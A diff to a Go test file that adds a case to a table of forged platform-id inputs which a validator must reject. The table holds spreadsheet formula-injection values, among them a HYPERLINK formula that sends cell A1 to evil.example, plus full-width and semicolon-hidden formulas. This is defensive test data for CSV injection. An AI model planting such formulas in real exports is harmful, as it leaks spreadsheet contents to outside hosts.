@@ -287,6 +287,7 @@ func editedForgeries() map[string]forgery {
 		"a formula for a platform's id":         {identified(`"=HYPERLINK(""http://evil.example/?""&A1,""ok"")"`), bundle.WrongTable, bundle.Options{}},
 		"a formula without quotes":              {identified("@SUM(A1)"), bundle.WrongTable, bundle.Options{}},
 		"a formula in wide letters":             {identified("＝HYPERLINK(1)"), bundle.WrongTable, bundle.Options{}},
+		"a formula behind a semicolon":          {identified("emp;=HYPERLINK(1)"), bundle.WrongTable, bundle.Options{}},
 		"a platform's id quoted for nothing":    {identified(`"emp1"`), bundle.WrongTable, bundle.Options{}},
 		"a platform's id of two cells":          {identified("emp,1"), bundle.WrongTable, bundle.Options{}},
 		"a platform's id with a quote":          {identified(`emp"1`), bundle.WrongTable, bundle.Options{}},
